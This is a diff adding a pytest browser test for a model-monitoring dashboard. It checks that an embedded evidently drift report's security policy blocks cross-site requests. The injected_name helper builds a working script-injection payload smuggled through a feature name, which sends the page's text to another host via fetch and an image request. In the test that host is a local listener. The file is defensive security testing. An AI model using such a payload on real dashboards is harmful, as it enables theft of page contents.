@@ -1,0 +1,158 @@
+"""The policy evidently's drift report is served under: a script smuggled in through a
+feature name (evidently writes column names unescaped inside its own ``<script>``) runs
+but can send nothing to another site, and a report of plain names still draws."""
+
+from __future__ import annotations
+
+import contextlib
+import dataclasses
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.dashboard.scenario import Served
+from tests.dashboard.test_browser import Session, _login, browser  # noqa: F401 (a fixture)
+from tests.tunewatch.conftest import MODEL, Clock, feed
+from tunewatch._auth import hash_token, new_token
+from tunewatch._background import BackgroundServer
+from tunewatch._config import build_config
+from tunewatch._daemon import Daemon
+from tunewatch._example import ExampleModel
+
+pytestmark = pytest.mark.browser
+
+WINDOW = 200  # a small window: evidently's build stays quick
+
+
+class Listener:
+    """Another site on loopback: records the path of every request that reaches it
+    (before answering it)."""
+
+    def __init__(self) -> None:
+        self.paths: list[str] = []
+        paths = self.paths
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                paths.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass  # the requests are recorded in `paths`
+
+        self.server = HTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    site = Listener()
+    thread = threading.Thread(target=site.server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield site
+    finally:
+        site.server.shutdown()
+        site.server.server_close()
+        thread.join()
+
+
+def injected_name(site: str) -> str:
+    """A feature name that closes evidently's script and opens one that sends the page's
+    text to ``site`` by ``fetch`` and by an image, then marks on the page, once both
+    have settled, whether the fetch went out."""
+    leak = f"'{site}/leak?t='+encodeURIComponent(document.body.innerText.slice(0,80))"
+    return (
+        "x0</script><script>Promise.all(["
+        f"fetch({leak},{{mode:'no-cors'}}).then(()=>'sent',()=>'refused'),"
+        f"new Promise(r=>{{const i=new Image();i.onload=i.onerror=r;i.src={leak}}})"
+        "]).then(([f])=>{document.documentElement.dataset.leak=f})</script>"
+    )
+
+
+@pytest.fixture
+def report_of(
+    browser: Any,  # noqa: F811 (the imported fixture)
+    trained: list[ExampleModel],
+    tmp_path: Path,
+) -> Iterator[Callable[[str], Session]]:
+    """Open, as a viewer, the drift report of a champion whose first feature is named as
+    given (the others ``x1``...), with a stored drift verdict of a small window."""
+    login = contextlib.contextmanager(_login)
+    with contextlib.ExitStack() as stack:
+
+        def open_report(first_feature: str) -> Session:
+            champion = trained[0]
+            names = (first_feature, *champion.metadata.feature_names[1:])
+            window = {"window_rows": WINDOW}
+            config = build_config(
+                {
+                    "data_dir": str(tmp_path),
+                    "scheduler": {"enabled": False},
+                    "tuning": {"workers": 0},
+                    "models": [{"name": MODEL, "task": "binary", "evaluation": window}],
+                },
+                env={},
+            )
+            d = Daemon(config, env={})
+            stack.callback(d.close)
+            d.registry.register(
+                MODEL,
+                champion.onnx,
+                dataclasses.replace(champion.metadata, feature_names=names),
+                actor="test",
+                stage="champion",
+                reference=champion.reference,
+            )
+            clock = Clock()
+            d.evaluator.clock = clock
+            feed(d, clock, 0, WINDOW, shift=0.0, seed=4)
+            drift = {r.kind: r for r in d.evaluator.evaluate(MODEL)}["drift"]
+            assert drift.status == "ok"
+            token = new_token()
+            d.store.add_token(
+                name="viewer", role="viewer", token_hash=hash_token(token), actor="test"
+            )
+            server = stack.enter_context(BackgroundServer(d.app))
+            served = Served(daemon=d, server=server, tokens={"viewer": token})
+            viewer = stack.enter_context(login(browser, served, "viewer"))
+            response = viewer.open(f"/dashboard/models/{MODEL}/drift/{drift.id}/report")
+            assert response.status == 200
+            return viewer
+
+        yield open_report
+
+
+def test_a_script_in_a_feature_name_sends_nothing_to_another_site(
+    report_of: Callable[[str], Session], listener: Listener
+) -> None:
+    """The script ran, sandboxed, and sent the report's text to another site three
+    times (an image, then ``fetch``): nothing may be fetched, and images only inline."""
+    viewer = report_of(injected_name(listener.url))
+    page = viewer.page
+    page.wait_for_function("() => document.documentElement.dataset.leak")  # both settled
+    assert page.evaluate("() => document.documentElement.dataset.leak") == "refused"
+    assert listener.paths == []
+
+
+def test_a_report_draws_its_plots_without_console_errors_under_its_policy(
+    report_of: Callable[[str], Session],
+) -> None:
+    """evidently's report loads nothing over the network (its scripts, styles, fonts and
+    images are inline) and draws as it did before the policy: a distribution per column
+    for the reference and the window (canvases), and a column's plot when expanded."""
+    viewer = report_of("x0")
+    page = viewer.page
+    columns = 9  # 8 features and the prediction
+    page.wait_for_function(f"() => document.querySelectorAll('td canvas').length == {2 * columns}")
+    page.locator("td svg").first.click()  # expand the first column
+    page.wait_for_function("() => document.querySelectorAll('.js-plotly-plot .main-svg').length")
+    assert "Drifted Columns" in page.locator("body").inner_text()
+    loaded = page.evaluate("() => performance.getEntriesByType('resource').map(e => e.name)")
+    assert [url for url in loaded if not url.endswith("/favicon.ico")] == []  # the browser's
+    assert viewer.errors == []
